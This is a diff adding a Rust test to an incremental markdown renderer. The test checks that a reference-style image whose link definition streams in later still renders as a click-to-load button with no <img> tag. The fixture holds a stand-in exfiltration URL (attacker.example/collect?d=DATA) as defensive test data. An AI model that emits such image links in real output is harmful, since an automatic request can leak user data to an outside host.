@@ -435,3 +435,32 @@ fn reference_style_images_are_click_to_load() {
         "<p><button type=\"button\" class=\"load-image\">Load image from attacker.example</button></p>"
     );
 }
+
+#[test]
+fn a_reference_image_whose_definition_streams_in_later_stays_click_to_load() {
+    let text =
+        "![a][ref]\n\nSome text in between.\n\n[ref]: https://attacker.example/collect?d=DATA\n";
+    let mut markdown = IncrementalMarkdown::new();
+    let mut shown = Vec::new();
+    for (index, c) in text.char_indices() {
+        let update = markdown.push(&text[index..index + c.len_utf8()]);
+        for block in &update {
+            assert_markdown_safe(&block.source, "streamed block");
+        }
+        sluice::markdown::merge_blocks(&mut shown, update);
+        assert_markdown_safe(&complete_tail(markdown.tail()), "streamed tail");
+    }
+    let update = markdown.finish();
+    sluice::markdown::merge_blocks(&mut shown, update);
+    let html: String = shown
+        .iter()
+        .map(|b| to_html(&parse_to_nodes(&b.source)))
+        .collect();
+    assert!(
+        html.starts_with(
+            "<p><button type=\"button\" class=\"load-image\">Load image from attacker.example</button></p>"
+        ),
+        "{html}"
+    );
+    assert!(!html.contains("<img"), "{html}");
+}
